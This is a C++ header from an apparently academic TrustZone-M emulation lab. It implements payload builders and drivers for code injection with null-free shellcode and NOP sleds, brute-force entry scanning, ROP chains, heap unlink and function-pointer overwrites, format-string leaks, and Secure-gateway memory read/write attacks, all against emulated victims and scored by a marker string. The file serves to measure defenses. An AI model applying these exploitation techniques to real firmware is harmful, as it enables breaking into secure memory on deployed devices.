// Copyright 2026 The tzm-lab Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Payload builders for the five attack classes, their delivery drivers and
// the brute-force entry scanner.
//
// Success is judged the same way for every attack that hijacks control:
// the injected code or gadget chain calls the victim's print_string with
// kAttackMarker, and the driver looks for the marker on the UART the
// attacker is attached to.

#ifndef TZM_ATTACKS_HPP
#define TZM_ATTACKS_HPP

#include <algorithm>
#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <nlohmann/json.hpp>
#include <optional>
#include <random>
#include <string>
#include <string_view>
#include <utility>
#include <variant>
#include <vector>

#include "tzm/assembler.hpp"
#include "tzm/isa.hpp"
#include "tzm/machine.hpp"
#include "tzm/runtime.hpp"
#include "tzm/scanner.hpp"

namespace tzm {

class NullByteError : public Error {
public:
    explicit NullByteError(std::vector<std::size_t> offsets)
        : Error("payload has 0x00 at " + describe(offsets)), offsets_(std::move(offsets)) {}
    [[nodiscard]] const std::vector<std::size_t>& offsets() const { return offsets_; }

private:
    static std::string describe(const std::vector<std::size_t>& offs) {
        std::string s;
        for (std::size_t i = 0; i < offs.size() && i < 8; ++i) s += (i ? "," : "") + std::to_string(offs[i]);
        if (offs.size() > 8) s += ",...";
        return s;
    }
    std::vector<std::size_t> offsets_;
};

class LayoutError : public Error {
    using Error::Error;
};
class ChainError : public Error {
    using Error::Error;
};
class GeometryError : public Error {
    using Error::Error;
};
class ParseError : public Error {
    using Error::Error;
};

/// Scan ran out of candidates. faults counts the fault kind of each failed
/// attempt ("none" when the attempt ended without a fault).
class Exhausted : public Error {
public:
    Exhausted(std::size_t attempts, std::map<std::string, std::size_t> faults)
        : Error("entry scan exhausted after " + std::to_string(attempts) + " attempts"),
          attempts_(attempts),
          faults_(std::move(faults)) {}
    [[nodiscard]] std::size_t attempts() const { return attempts_; }
    [[nodiscard]] const std::map<std::string, std::size_t>& faults() const { return faults_; }

private:
    std::size_t attempts_;
    std::map<std::string, std::size_t> faults_;
};

/// A hardened gateway refused the call.
class Blocked : public Error {
    using Error::Error;
};

enum class Layout : std::uint8_t { Classic, EntryAtBottom };
/// String sinks stop at the first 0x00; raw sinks copy a length.
enum class Sink : std::uint8_t { String, Raw };

struct Span {
    std::size_t offset = 0;
    std::size_t length = 0;
};

struct PayloadMeta {
    std::uint32_t sled_len = 0;
    std::optional<std::uint32_t> entry_addr;
    Span shellcode;
    std::optional<std::size_t> frames;
};

struct Payload {
    Bytes bytes;
    Layout layout = Layout::Classic;
    PayloadMeta meta;

    [[nodiscard]] std::size_t size() const { return bytes.size(); }
};

inline const char* layout_name(Layout l) { return l == Layout::Classic ? "classic" : "entry-at-bottom"; }

// ---------------------------------------------------------------------------
// Code injection

/// Assembles `program` and rewrites every instruction whose encoding holds
/// a 0x00 byte with its null-free substitute. Data directives are checked
/// but never rewritten.
inline Bytes assemble_null_free(AsmProgram program) {
    std::vector<std::string> probes(program.statements.size());
    for (std::size_t i = 0; i < program.statements.size(); ++i) {
        auto& st = program.statements[i];
        if (st.mnemonic.empty() || st.mnemonic.front() == '.') continue;
        if (st.label.empty()) st.label = "__nf" + std::to_string(i);
        probes[i] = st.label;
    }
    const ImageBlob blob = assemble(program);
    if (blob.segments.size() > 1) throw LayoutError("shellcode must be a single segment");
    Bytes out = blob.bytes();
    const std::uint32_t base = blob.segments.empty() ? program.origin : blob.segments.front().origin;
    for (std::size_t i = 0; i < probes.size(); ++i) {
        if (probes[i].empty()) continue;
        const std::size_t off = blob.symbol(probes[i]) - base;
        const auto dec = decode(std::span<const std::uint8_t>(out).subspan(off));
        const Instruction* in = as_instruction(dec);
        if (!in) throw LayoutError("shellcode statement " + std::to_string(i + 1) + " does not decode");
        const Bytes enc = encode(*in);
        if (null_byte_positions(enc).empty()) continue;
        const auto sub = substitute_null_free(*in);
        if (!sub) continue;
        const Bytes rep = encode(sub->instruction);
        if (rep.size() != enc.size()) continue;
        std::copy(rep.begin(), rep.end(), out.begin() + static_cast<std::ptrdiff_t>(off));
    }
    if (auto bad = null_byte_positions(out); !bad.empty()) throw NullByteError(std::move(bad));
    return out;
}

/// Lines loading `value` into rD without a 0x00 byte in any encoding:
/// movs of the top non-zero byte, then eight self-adds per remaining byte
/// and an adds for each non-zero one.
inline std::string null_free_constant(unsigned rd, std::uint32_t value) {
    const std::string r = "r" + std::to_string(rd);
    int top = 3;
    while (top > 0 && ((value >> (8 * top)) & 0xFF) == 0) --top;
    const auto byte = [&](int i) { return (value >> (8 * i)) & 0xFF; };
    if (value == 0) return "        movs " + r + ", #1\n        subs " + r + ", #1\n";
    std::string s = "        movs " + r + ", #" + std::to_string(byte(top)) + "\n";
    for (int i = top - 1; i >= 0; --i) {
        for (int k = 0; k < 8; ++k) s += "        adds " + r + ", " + r + ", " + r + "\n";
        if (byte(i) != 0) s += "        adds " + r + ", #" + std::to_string(byte(i)) + "\n";
    }
    return s;
}

/// Position-independent shellcode: prints `marker` through the routine at
/// `print_addr` and stops at BKPT #1. The marker is stored without its
/// terminator; the code writes the NUL at run time so the payload stays
/// null-free.
inline AsmProgram marker_shellcode(std::uint32_t print_addr, std::string_view marker = kAttackMarker) {
    if (marker.empty() || marker.size() > 31) throw LayoutError("marker must be 1..31 bytes");
    if (marker.find('\0') != std::string_view::npos || marker.find('"') != std::string_view::npos) {
        throw LayoutError("marker holds a byte the shellcode cannot carry");
    }
    std::string text = R"(
sc_start:
        mov r0, pc
        adds r0, #sc_msg - sc_start - 4
        movs r2, #1
        subs r2, #1
        strb r2, [r0, #)" + std::to_string(marker.size()) +
                       "]\n" + null_free_constant(3, print_addr | 1u) + R"(        blx r3
        bkpt #1
sc_msg:
        .ascii ")" + std::string(marker) +
                       "\"\n";
    return parse_asm(text, 0);
}

struct InjectionParams {
    std::uint32_t buffer_len = 256;
    std::optional<std::uint32_t> entry_addr;
    std::uint32_t sled_len = 50;
    Layout layout = Layout::EntryAtBottom;
    /// Callee-saved registers between the buffer and the return slot.
    std::uint32_t saved_regs_span = 16;
    /// Return address already in the slot; EntryAtBottom keeps its upper
    /// halfword.
    std::optional<std::uint32_t> saved_return;
    Sink sink = Sink::String;
};

/// The sled instruction: NOP rewritten to MOV R2, R2.
inline Bytes sled_unit() { return encode(substitute_null_free(Instruction{.op = Op::Nop})->instruction); }

inline Payload build_injection_payload(const AsmProgram& shellcode, const InjectionParams& p) {
    if (!p.entry_addr) throw LayoutError("injection needs an entry address");
    const std::uint32_t entry = *p.entry_addr | 1u;
    const Bytes code = assemble_null_free(shellcode);
    Bytes sled;
    const Bytes unit = sled_unit();
    for (std::uint32_t i = 0; i < p.sled_len; ++i) sled.insert(sled.end(), unit.begin(), unit.end());
    const std::size_t slot = p.buffer_len + p.saved_regs_span;

    Payload out;
    out.layout = p.layout;
    out.meta.sled_len = p.sled_len;
    out.meta.entry_addr = entry;
    if (p.layout == Layout::EntryAtBottom) {
        if (!p.saved_return) throw LayoutError("entry-at-bottom needs the saved return address");
        if ((*p.saved_return >> 16) != (entry >> 16)) {
            throw LayoutError("saved return " + guest::hex(*p.saved_return) + " does not share the upper halfword of " +
                              guest::hex(entry));
        }
        if (sled.size() + code.size() > slot) throw LayoutError("sled and shellcode exceed the overwritable span");
        out.bytes = sled;
        out.meta.shellcode = {out.bytes.size(), code.size()};
        out.bytes.insert(out.bytes.end(), code.begin(), code.end());
        out.bytes.resize(slot, 'A');
        out.bytes.push_back(static_cast<std::uint8_t>(entry));
        out.bytes.push_back(static_cast<std::uint8_t>(entry >> 8));
    } else {
        out.bytes.assign(slot, 'A');
        for (int i = 0; i < 4; ++i) out.bytes.push_back(static_cast<std::uint8_t>(entry >> (8 * i)));
        out.bytes.insert(out.bytes.end(), sled.begin(), sled.end());
        out.meta.shellcode = {out.bytes.size(), code.size()};
        out.bytes.insert(out.bytes.end(), code.begin(), code.end());
    }
    if (p.sink == Sink::String) {
        auto nulls = null_byte_positions(out.bytes);
        if (p.layout == Layout::EntryAtBottom) {
            std::erase_if(nulls, [&](std::size_t i) { return i + 2 >= out.bytes.size(); });
        }
        if (!nulls.empty()) throw NullByteError(nulls);
    }
    return out;
}

/// Word range of the application stack a scan walks: the kMinStack bytes
/// below the reset stack top.
inline std::pair<std::uint32_t, std::uint32_t> stack_span(const VictimImage& img) {
    const std::uint32_t top = img.app_world == World::Secure ? img.reset.sp_secure : img.reset.sp_nonsecure;
    return {top - kMinStack, top};
}

// ---------------------------------------------------------------------------
// Targets and delivery

/// A victim image plus whatever the host installs after boot (defense
/// services, for instance).
struct Target {
    VictimImage image;
    std::function<void(Machine&)> arm;
    /// Runs after each restart to the booted state during a scan.
    std::function<void()> on_restart;

    [[nodiscard]] std::unique_ptr<Machine> boot() const {
        auto m = tzm::boot(image);
        if (arm) arm(*m);
        return m;
    }
};

inline Target plain_target(VictimImage img) { return Target{std::move(img), {}, {}}; }

inline constexpr std::uint64_t kDeliveryBudget = 2'000'000;
inline constexpr std::uint64_t kAttemptBudget = 200'000;

struct Delivery {
    RunOutcome outcome;
    std::string output;        // attacker-visible UART
    std::string secure_output; // Secure UART, for NSC-hosted sinks
};

/// Queues `input` on the application UART and runs until the guest halts,
/// faults or exhausts the budget. A previous input-exhausted halt is
/// resumed first.
inline Delivery deliver(Machine& m, const VictimImage& img, const Bytes& input, std::uint64_t budget = kDeliveryBudget) {
    if (m.halted() && m.halt_code() == guest::halt::kInputExhausted) m.resume();
    m.uart_feed(img.app_uart(), input);
    Delivery d;
    d.outcome = m.run(budget);
    d.output = m.uart_text(img.app_uart());
    d.secure_output = img.app_uart() == UartId::Secure ? d.output : m.uart_text(UartId::Secure);
    return d;
}

inline bool has_marker(std::string_view out) { return out.find(kAttackMarker) != std::string_view::npos; }

inline std::string fault_label(const RunOutcome& o) {
    if (o.fault) return fault_name(o.fault->kind);
    return o.kind == RunOutcome::Kind::BudgetExhausted ? "budget" : "none";
}

struct ScanOrder {
    /// Unset walks candidates upwards; set shuffles them with this seed.
    std::optional<std::uint64_t> seed;
};

struct ScanResult {
    std::uint32_t entry = 0;
    std::size_t attempts = 0;
};

/// Tries each odd candidate entry in [lo, hi) with the given stride. Every
/// attempt restarts from the booted state, which stands in for the device's
/// automatic restart after a crash.
/// A set `cap` bounds the number of attempts (the restart cap).
inline ScanResult scan_entry(const Target& target, const std::function<Bytes(std::uint32_t)>& make_input,
                             std::uint32_t lo, std::uint32_t hi, std::uint32_t stride = 2, ScanOrder order = {},
                             std::uint64_t budget = kAttemptBudget, std::optional<std::size_t> cap = {}) {
    if (stride == 0 || stride % 2 != 0) throw Error("stride must be a positive even number");
    std::vector<std::uint32_t> candidates;
    for (std::uint64_t c = lo | 1u; c < hi; c += stride) candidates.push_back(static_cast<std::uint32_t>(c));
    if (order.seed) {
        std::mt19937_64 rng(*order.seed);
        std::shuffle(candidates.begin(), candidates.end(), rng);
    }
    auto m = target.boot();
    const auto fresh = m->snapshot();
    std::map<std::string, std::size_t> faults;
    std::size_t attempts = 0;
    for (auto c : candidates) {
        if (cap && attempts == *cap) break;
        ++attempts;
        m->restore(fresh);
        if (target.on_restart) target.on_restart();
        const auto d = deliver(*m, target.image, make_input(c), budget);
        if (has_marker(d.output)) return {c, attempts};
        ++faults[fault_label(d.outcome)];
    }
    throw Exhausted(attempts, std::move(faults));
}

/// Saved return address BOF_func's frame holds: a point inside dispatch.
inline std::uint32_t dispatch_return(const VictimImage& img) { return img.symbol("dispatch") | 1u; }

/// Record builder for scanning the bof victim with the marker shellcode.
inline std::function<Bytes(std::uint32_t)> injection_input(const VictimImage& img, std::uint32_t sled_len = 50) {
    const AsmProgram sc = marker_shellcode(img.symbol("print_string"));
    InjectionParams p;
    p.buffer_len = img.buffer_len;
    p.sled_len = sled_len;
    p.saved_return = dispatch_return(img);
    return [sc, p](std::uint32_t entry) mutable {
        p.entry_addr = entry;
        return make_record(cmd::kBof, build_injection_payload(sc, p).bytes);
    };
}

// ---------------------------------------------------------------------------
// Return-oriented programming

struct GadgetDescriptor {
    std::uint32_t entry = 0;
    /// Registers the gadget loads from the stack, in pop order.
    std::vector<std::uint8_t> pops;
};

struct GadgetFrame {
    std::vector<std::uint32_t> words;
    std::vector<std::uint8_t> pops_into;
};

struct RopChain {
    std::uint32_t entry = 0;
    std::vector<GadgetFrame> frames;
};

/// What the chain should do. seeds[i] assigns registers popped by gadget i;
/// unassigned data words are filler. The last gadget's control word is
/// final_return.
struct RopGoal {
    std::vector<std::map<std::uint8_t, std::uint32_t>> seeds;
    std::uint32_t final_return = 0;
    /// Bytes placed at the start of the overflowed buffer.
    Bytes buffer_prefix;
};

inline constexpr std::uint32_t kFillerWord = 0x41414141;

inline std::pair<RopChain, Payload> build_rop_chain(const std::vector<GadgetDescriptor>& gadgets, const RopGoal& goal,
                                                    std::uint32_t buffer_len, std::uint32_t saved_regs_span = 16) {
    if (gadgets.empty()) throw ChainError("empty gadget list");
    RopChain chain;
    chain.entry = gadgets.front().entry | 1u;
    for (std::size_t i = 0; i < gadgets.size(); ++i) {
        const auto& g = gadgets[i];
        const bool has_control = std::any_of(g.pops.begin(), g.pops.end(),
                                             [](std::uint8_t r) { return r == reg::pc || r == reg::lr; });
        if (!has_control) throw ChainError("gadget at " + guest::hex(g.entry) + " pops no control register");
        const std::uint32_t next = (i + 1 < gadgets.size() ? gadgets[i + 1].entry : goal.final_return) | 1u;
        GadgetFrame f;
        f.pops_into = g.pops;
        for (auto r : g.pops) {
            if (r == reg::pc || r == reg::lr) {
                f.words.push_back(next);
            } else if (i < goal.seeds.size() && goal.seeds[i].contains(r)) {
                f.words.push_back(goal.seeds[i].at(r));
            } else {
                f.words.push_back(kFillerWord);
            }
        }
        chain.frames.push_back(std::move(f));
    }

    const std::size_t slot = buffer_len + saved_regs_span;
    if (goal.buffer_prefix.size() > slot) throw LayoutError("buffer prefix longer than the overwritable span");
    Payload p;
    p.layout = Layout::Classic;
    p.meta.entry_addr = chain.entry;
    p.meta.frames = chain.frames.size();
    p.bytes = goal.buffer_prefix;
    p.bytes.resize(slot, 'A');
    auto put = [&](std::uint32_t w) {
        for (int k = 0; k < 4; ++k) p.bytes.push_back(static_cast<std::uint8_t>(w >> (8 * k)));
    };
    put(chain.entry);
    for (const auto& f : chain.frames) {
        for (auto w : f.words) put(w);
    }
    return {std::move(chain), std::move(p)};
}

/// Gadget descriptors for the named entries, taken from a linear sweep of
/// the image rather than from its symbol table's contents.
inline std::vector<GadgetDescriptor> discover_gadgets(const VictimImage& img, const std::vector<std::uint32_t>& entries,
                                                      std::size_t max_len = 3) {
    const auto found = find_gadgets(sweep(img.blob), max_len);
    std::vector<GadgetDescriptor> out;
    for (auto e : entries) {
        auto it = std::find_if(found.begin(), found.end(), [&](const Gadget& g) { return g.entry == (e & ~1u); });
        if (it == found.end()) throw ChainError("no gadget found at " + guest::hex(e));
        out.push_back({it->entry, it->pop_effect});
    }
    return out;
}

/// Pop lists of the kit's planted gadgets, as a scenario would supply them.
inline std::vector<GadgetDescriptor> kit_gadgets(const VictimImage& img) {
    return {{img.symbol("rop_g1"), {reg::r4, reg::r5, reg::lr}},
            {img.symbol("rop_g2"), {reg::r4, reg::pc}},
            {img.symbol("rop_g3"), {reg::pc}}};
}

/// The three-gadget chain that prints the image's attack_marker and exits.
/// Gadgets come from a sweep of the image; when the sweep no longer finds
/// them (an instrumented image), the scenario-supplied descriptors are used.
inline std::pair<RopChain, Payload> marker_rop_chain(const VictimImage& img) {
    std::vector<GadgetDescriptor> gadgets;
    try {
        gadgets = discover_gadgets(img, {img.symbol("rop_g1"), img.symbol("rop_g2"), img.symbol("rop_g3")});
    } catch (const ChainError&) {
        gadgets = kit_gadgets(img);
    }
    RopGoal goal;
    goal.seeds = {{{reg::r4, img.symbol("attack_marker")}}};
    goal.final_return = img.symbol("sys_exit");
    return build_rop_chain(gadgets, goal, img.buffer_len);
}

// ---------------------------------------------------------------------------
// Heap overflow

/// Chunk sizes the heap victims allocate; chunk headers are {prev_size,
/// size|in_use}.
struct HeapGeometry {
    std::uint32_t chunk1_payload = 8;
    std::uint32_t chunk2_payload = 8;
    std::uint32_t header = 8;
};

struct FnPtrOverwrite {
    std::uint32_t slot_offset = 4;
    std::uint32_t target = 0;
};

/// Forged free chunk: unlinking it stores `what` at `where` and, as the
/// mirror write, where - 12 at what + 8.
struct Unlink {
    std::uint32_t where = 0;
    std::uint32_t what = 0;
};

using HeapMode = std::variant<FnPtrOverwrite, Unlink>;

inline constexpr std::uint32_t kUnlinkBkOffset = 12;

inline Payload build_heap_overflow(const HeapMode& mode, const HeapGeometry& g = {}) {
    if (g.chunk1_payload % 8 != 0 || g.header != 8 || g.chunk2_payload < 8) {
        throw GeometryError("unsupported chunk geometry");
    }
    Payload p;
    p.layout = Layout::Classic;
    p.bytes.assign(g.chunk1_payload, 'A');
    auto put = [&](std::uint32_t w) {
        for (int k = 0; k < 4; ++k) p.bytes.push_back(static_cast<std::uint8_t>(w >> (8 * k)));
    };
    const std::uint32_t chunk2_size = g.header + g.chunk2_payload;
    if (const auto* f = std::get_if<FnPtrOverwrite>(&mode)) {
        if (f->slot_offset % 4 != 0 || f->slot_offset + 4 > g.chunk2_payload) {
            throw GeometryError("slot offset " + std::to_string(f->slot_offset) + " outside chunk 2");
        }
        put(kFillerWord);
        put(chunk2_size | 1u); // keep chunk 2 in use
        for (std::uint32_t o = 0; o < f->slot_offset; o += 4) put(kFillerWord);
        put(f->target | 1u);
        p.meta.entry_addr = f->target | 1u;
    } else {
        const auto& u = std::get<Unlink>(mode);
        put(0);
        put(chunk2_size); // in-use bit clear: free(chunk 1) coalesces forward
        put(u.where - kUnlinkBkOffset);
        put(u.what);
    }
    return p;
}

/// Geometry of the kit's heap victims, checked against the profile.
inline HeapGeometry heap_geometry(const VictimImage& img) {
    if (img.profile.victim != Victim::Heap) throw GeometryError("image has no heap victim");
    return {};
}

// ---------------------------------------------------------------------------
// Format string

inline Payload build_format_leak(std::size_t n_words) {
    Payload p;
    for (std::size_t i = 0; i < n_words; ++i) {
        const std::string_view spec = i ? " %08x" : "%08x";
        p.bytes.insert(p.bytes.end(), spec.begin(), spec.end());
    }
    return p;
}

/// Inverse of the guest printf for build_format_leak's format: words of
/// eight lowercase hex digits separated by single spaces.
inline std::vector<std::uint32_t> parse_leak(std::string_view out) {
    std::vector<std::uint32_t> words;
    if (out.empty()) return words;
    std::size_t i = 0;
    for (;;) {
        if (i + 8 > out.size()) throw ParseError("truncated word at offset " + std::to_string(i));
        std::uint32_t w = 0;
        for (std::size_t k = 0; k < 8; ++k) {
            const char c = out[i + k];
            int d;
            if (c >= '0' && c <= '9') d = c - '0';
            else if (c >= 'a' && c <= 'f') d = c - 'a' + 10;
            else throw ParseError("bad hex digit at offset " + std::to_string(i + k));
            w = (w << 4) | static_cast<std::uint32_t>(d);
        }
        words.push_back(w);
        i += 8;
        if (i == out.size()) return words;
        if (out[i] != ' ') throw ParseError("expected a space at offset " + std::to_string(i));
        ++i;
    }
}

inline std::vector<std::uint32_t> parse_leak(std::span<const std::uint8_t> bytes) {
    return parse_leak(std::string_view(reinterpret_cast<const char*>(bytes.data()), bytes.size()));
}

// ---------------------------------------------------------------------------
// NSC attacks

struct NscRead {
    std::uint32_t secure_addr = 0;
    std::uint32_t n = 1;
};

struct NscWrite {
    std::uint32_t secure_addr = 0;
    std::uint32_t value = 0;
};

using NscMode = std::variant<NscRead, NscWrite>;

struct NscObservation {
    std::vector<std::uint32_t> values;         // words read, in address order
    std::optional<std::uint32_t> secure_after; // Write: value at the target afterwards
    std::size_t calls = 0;
    std::size_t payload_len = 0; // bytes per call record
};

inline constexpr std::uint32_t kNscRejected = 0xFFFFFFFFu;

namespace attacks_detail {

// One NSC_func call from the Non-secure caller; returns the printed sum.
inline std::uint32_t nsc_call(Machine& m, const VictimImage& img, const Bytes& args) {
    const auto d = deliver(m, img, make_record(cmd::kNscFunc, args));
    if (d.outcome.kind == RunOutcome::Kind::Faulted) {
        throw Blocked("NSC call faulted: " + (d.outcome.fault ? d.outcome.fault->detail : std::string("?")));
    }
    const std::string& out = d.output;
    if (out.size() < 9 || out.back() != '\n') throw ParseError("no NSC_func result line");
    const auto w = parse_leak(std::string_view(out).substr(out.size() - 9, 8));
    return w.at(0);
}

} // namespace attacks_detail

/// Drives NSC_func from the Non-secure world. Throws Blocked when the
/// gateway returns its reject value without touching the destination.
inline NscObservation drive_nsc_exploit(Machine& m, const VictimImage& img, const NscMode& mode) {
    if (img.profile.world != HostWorld::Nsc) throw Error("image exposes no NSC_func");
    const std::uint32_t scratch = img.symbol("nsc_scratch");
    NscObservation obs;
    obs.payload_len = 12;
    auto read_word = [&](std::uint32_t addr, std::uint32_t slot) {
        m.memory().write(slot, 4, 0);
        const auto v = attacks_detail::nsc_call(m, img, le_words({addr, 1, slot}));
        ++obs.calls;
        if (v == kNscRejected && m.memory().read(slot, 4) == 0) {
            throw Blocked("NSC_func rejected a read of " + guest::hex(addr));
        }
        return v;
    };
    if (const auto* r = std::get_if<NscRead>(&mode)) {
        if (r->n > kNscScratchWords) throw Error("read longer than the scratch area");
        for (std::uint32_t i = 0; i < r->n; ++i) obs.values.push_back(read_word(r->secure_addr + 4 * i, scratch + 4 * i));
        return obs;
    }
    const auto& w = std::get<NscWrite>(mode);
    const std::uint32_t before = read_word(w.secure_addr, scratch);
    obs.values.push_back(before);
    // a points at the fourth word of the record in linebuf, which holds the delta.
    const std::uint32_t delta = w.value - before;
    const Bytes args = le_words({img.symbol("linebuf") + 12, 1, w.secure_addr, delta});
    obs.payload_len = args.size();
    const auto v = attacks_detail::nsc_call(m, img, args);
    ++obs.calls;
    obs.secure_after = m.memory().read(w.secure_addr, 4);
    if (v == kNscRejected && *obs.secure_after == before) {
        throw Blocked("NSC_func rejected a write to " + guest::hex(w.secure_addr));
    }
    return obs;
}

// ---------------------------------------------------------------------------
// Attack runs

enum class AttackKind : std::uint8_t { Inject, Rop, HeapFnptr, HeapUnlink, Fmt, NscRead, NscWrite, NscConsole };

inline constexpr AttackKind kAllAttacks[] = {AttackKind::Inject,     AttackKind::Rop,     AttackKind::HeapFnptr,
                                             AttackKind::HeapUnlink, AttackKind::Fmt,     AttackKind::NscRead,
                                             AttackKind::NscWrite,   AttackKind::NscConsole};

inline const char* attack_name(AttackKind k) {
    switch (k) {
    case AttackKind::Inject: return "inject";
    case AttackKind::Rop: return "rop";
    case AttackKind::HeapFnptr: return "heap_fnptr";
    case AttackKind::HeapUnlink: return "heap_unlink";
    case AttackKind::Fmt: return "fmt";
    case AttackKind::NscRead: return "nsc_read";
    case AttackKind::NscWrite: return "nsc_write";
    case AttackKind::NscConsole: return "nsc_console";
    }
    return "?";
}

inline std::optional<AttackKind> parse_attack(std::string_view s) {
    for (auto k : kAllAttacks) {
        if (s == attack_name(k)) return k;
    }
    return std::nullopt;
}

/// Victim profile an attack runs against. NSC attacks force the nsc world;
/// fmt in the nsc world goes through nsc_puts.
inline ScenarioProfile profile_for(AttackKind k, HostWorld w) {
    ScenarioProfile p;
    p.world = w;
    switch (k) {
    case AttackKind::Inject: p.victim = Victim::Bof; break;
    case AttackKind::Rop: p.victim = Victim::Rop; break;
    case AttackKind::HeapFnptr:
    case AttackKind::HeapUnlink: p.victim = Victim::Heap; break;
    case AttackKind::Fmt: p.victim = w == HostWorld::Nsc ? Victim::NscPuts : Victim::Fmt; break;
    case AttackKind::NscRead:
    case AttackKind::NscWrite:
    case AttackKind::NscConsole:
        p.victim = Victim::NscFunc;
        p.world = HostWorld::Nsc;
        break;
    }
    return p;
}

struct AttackOptions {
    std::uint32_t sled_len = 50;
    std::uint32_t stride = 2;
    ScanOrder order;
    std::size_t leak_words = 5;
    std::uint32_t unlink_value = 0xDEADBEEF;
    std::uint32_t nsc_write_value = 0x5EC0DE42;
    /// Cycle budget of one delivery, and of one scan attempt.
    std::uint64_t budget = kDeliveryBudget;
    std::uint64_t attempt_budget = kAttemptBudget;
    std::optional<std::size_t> restart_cap;
};

struct AttackReport {
    std::string attack;
    std::string world;
    std::size_t payload_len = 0;
    std::optional<std::size_t> attempts;
    bool success = false;
    std::optional<nlohmann::json> leaked;
    /// Why a failed attack failed: a fault kind, "Rejected" or "Sanitized".
    std::string blocked_by;
    std::optional<std::uint32_t> entry;
};

inline nlohmann::json to_json(const AttackReport& r) {
    nlohmann::json j{{"attack", r.attack}, {"world", r.world}, {"payload_len", r.payload_len}, {"success", r.success}};
    if (r.attempts) j["attempts"] = *r.attempts;
    if (r.leaked) j["leaked"] = *r.leaked;
    if (!r.success && !r.blocked_by.empty()) j["blocked_by"] = r.blocked_by;
    if (r.entry) j["entry"] = guest::hex(*r.entry);
    return j;
}

namespace attacks_detail {

inline nlohmann::json hex_words(const std::vector<std::uint32_t>& ws) {
    auto j = nlohmann::json::array();
    for (auto w : ws) j.push_back(guest::hex(w));
    return j;
}

// The fault kind most failed attempts ended with.
inline std::string dominant_fault(const std::map<std::string, std::size_t>& faults) {
    std::string best = "none";
    std::size_t n = 0;
    for (const auto& [k, c] : faults) {
        if (c > n) best = k, n = c;
    }
    return best;
}

} // namespace attacks_detail

inline AttackReport run_attack(AttackKind kind, const Target& target, const AttackOptions& opt = {}) {
    const VictimImage& img = target.image;
    AttackReport rep;
    rep.attack = attack_name(kind);
    rep.world = host_name(img.profile.world);

    switch (kind) {
    case AttackKind::Inject: {
        const auto make = injection_input(img, opt.sled_len);
        rep.payload_len = make(stack_span(img).second - 2).size() - 3;
        const auto [lo, hi] = stack_span(img);
        try {
            const auto r = scan_entry(target, make, lo, hi, opt.stride, opt.order, opt.attempt_budget, opt.restart_cap);
            rep.success = true;
            rep.attempts = r.attempts;
            rep.entry = r.entry;
        } catch (const Exhausted& e) {
            rep.attempts = e.attempts();
            rep.blocked_by = attacks_detail::dominant_fault(e.faults());
        }
        return rep;
    }
    case AttackKind::Rop: {
        const auto [chain, payload] = marker_rop_chain(img);
        rep.payload_len = payload.size();
        auto m = target.boot();
        const auto d = deliver(*m, img, make_record(cmd::kRop, payload.bytes), opt.budget);
        rep.success = has_marker(d.output);
        if (!rep.success) rep.blocked_by = fault_label(d.outcome);
        return rep;
    }
    case AttackKind::HeapFnptr: {
        const std::uint32_t code_at = img.symbol("msgbuf");
        const Bytes code = assemble(marker_shellcode(img.symbol("print_string"))).bytes();
        const auto payload =
            build_heap_overflow(FnPtrOverwrite{4, code_at}, heap_geometry(img));
        rep.payload_len = payload.size();
        Bytes input = make_record(cmd::kStoreMsg, code);
        const Bytes hit = make_record(cmd::kHeapCall, payload.bytes);
        input.insert(input.end(), hit.begin(), hit.end());
        auto m = target.boot();
        const auto d = deliver(*m, img, input, opt.budget);
        rep.success = has_marker(d.output);
        if (!rep.success) rep.blocked_by = fault_label(d.outcome);
        return rep;
    }
    case AttackKind::HeapUnlink: {
        const std::uint32_t where = img.symbol("heap_target");
        const auto payload = build_heap_overflow(Unlink{where, opt.unlink_value}, heap_geometry(img));
        rep.payload_len = payload.size();
        auto m = target.boot();
        const auto d = deliver(*m, img, make_record(cmd::kHeapUnlink, payload.bytes), opt.budget);
        const std::uint32_t after = m->memory().read(where, 4);
        rep.success = after == opt.unlink_value;
        rep.leaked = nlohmann::json{{"where", guest::hex(where)}, {"value", guest::hex(after)}};
        if (!rep.success) rep.blocked_by = fault_label(d.outcome);
        return rep;
    }
    case AttackKind::Fmt: {
        const auto payload = build_format_leak(opt.leak_words);
        rep.payload_len = payload.size();
        const bool via_nsc = img.profile.world == HostWorld::Nsc;
        auto m = target.boot();
        const auto d = deliver(*m, img, make_record(via_nsc ? cmd::kNscPuts : cmd::kFmt, payload.bytes), opt.budget);
        const std::string& out = via_nsc ? d.secure_output : d.output;
        try {
            const auto words = parse_leak(out);
            rep.success = words.size() == opt.leak_words;
            rep.leaked = attacks_detail::hex_words(words);
        } catch (const ParseError&) {
            rep.success = false;
        }
        if (!rep.success) {
            const std::string literal(payload.bytes.begin(), payload.bytes.end());
            rep.blocked_by = out == literal ? "Sanitized" : fault_label(d.outcome);
        }
        return rep;
    }
    case AttackKind::NscRead:
    case AttackKind::NscWrite: {
        auto m = target.boot();
        try {
            if (kind == AttackKind::NscRead) {
                const auto obs = drive_nsc_exploit(*m, img, NscRead{img.symbol("secure_word"), 1});
                rep.payload_len = obs.payload_len;
                rep.success = obs.values.at(0) == kSecureWord;
                rep.leaked = attacks_detail::hex_words(obs.values);
            } else {
                const auto obs = drive_nsc_exploit(*m, img, NscWrite{img.symbol("secure_scratch"), opt.nsc_write_value});
                rep.payload_len = obs.payload_len;
                rep.success = obs.secure_after == opt.nsc_write_value;
                rep.leaked = nlohmann::json{{"before", guest::hex(obs.values.at(0))},
                                            {"after", guest::hex(obs.secure_after.value_or(0))}};
            }
            if (!rep.success) rep.blocked_by = "NoEffect";
        } catch (const Blocked&) {
            rep.payload_len = 12;
            rep.blocked_by = "Rejected";
        }
        return rep;
    }
    case AttackKind::NscConsole: {
        const Bytes args = le_words({img.symbol("secure_secret")});
        rep.payload_len = args.size();
        auto m = target.boot();
        const auto d = deliver(*m, img, make_record(cmd::kNscConsole, args), opt.budget);
        rep.success = d.secure_output.find(kSecureSecret) != std::string::npos;
        if (rep.success) rep.leaked = std::string(kSecureSecret);
        else rep.blocked_by = d.outcome.fault ? fault_label(d.outcome) : "Rejected";
        return rep;
    }
    }
    return rep;
}

} // namespace tzm

#endif // TZM_ATTACKS_HPP
